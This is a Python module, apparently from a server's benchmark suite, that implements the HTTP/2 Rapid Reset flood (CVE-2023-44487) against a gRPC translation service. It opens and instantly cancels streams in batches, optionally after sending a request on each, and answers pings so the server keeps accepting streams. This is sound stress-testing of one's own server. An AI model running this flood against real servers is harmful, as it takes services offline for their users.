"""Streams that are opened and cancelled at once (CVE-2023-44487), without and with a request."""

from __future__ import annotations

import struct
from collections.abc import Iterator
from functools import partial
from itertools import count
from threading import Thread

from bench.attacks.connections import one_by_one
from summsvc.v1.article_pb2 import Article
from summsvc.v1.translation_service_pb2 import TranslateRequest
from tests.server import frames
from tests.server.connection import RawConnection

CANCEL = struct.pack(">I", 8)
STREAMS_PER_STEP = 100
REQUEST = TranslateRequest(
    article=Article(body="The judge met the bishop.", language_code="en"),
    target_language_code="ru",
).SerializeToString()


def steps(port: int) -> Iterator[None]:
    """Open and cancel ``STREAMS_PER_STEP`` streams in each step, as fast as the server reads."""
    return one_by_one(port, partial(_reset, request=False))


def with_request(port: int) -> Iterator[None]:
    """Like ``steps``, but send a request on each stream before it is cancelled."""
    return one_by_one(port, partial(_reset, request=True))


def _reset(wire: RawConnection, request: bool) -> Iterator[None]:
    # The server may wait for the answer to a ping before it accepts more streams.
    Thread(target=wire.answer_pings, daemon=True).start()
    for first in count(1, 2 * STREAMS_PER_STEP):
        streams = range(first, first + 2 * STREAMS_PER_STEP, 2)
        if request:
            wire.send(*(_complete(stream) for stream in streams))
        for stream in streams:
            cancel = frames.frame(frames.RST_STREAM, 0, stream, CANCEL)
            opening = () if request else (frames.headers(stream, frames.TRANSLATE),)
            wire.send(*opening, cancel)
        yield


def _complete(stream: int) -> bytes:
    return frames.headers(stream, frames.TRANSLATE) + frames.message(stream, REQUEST)
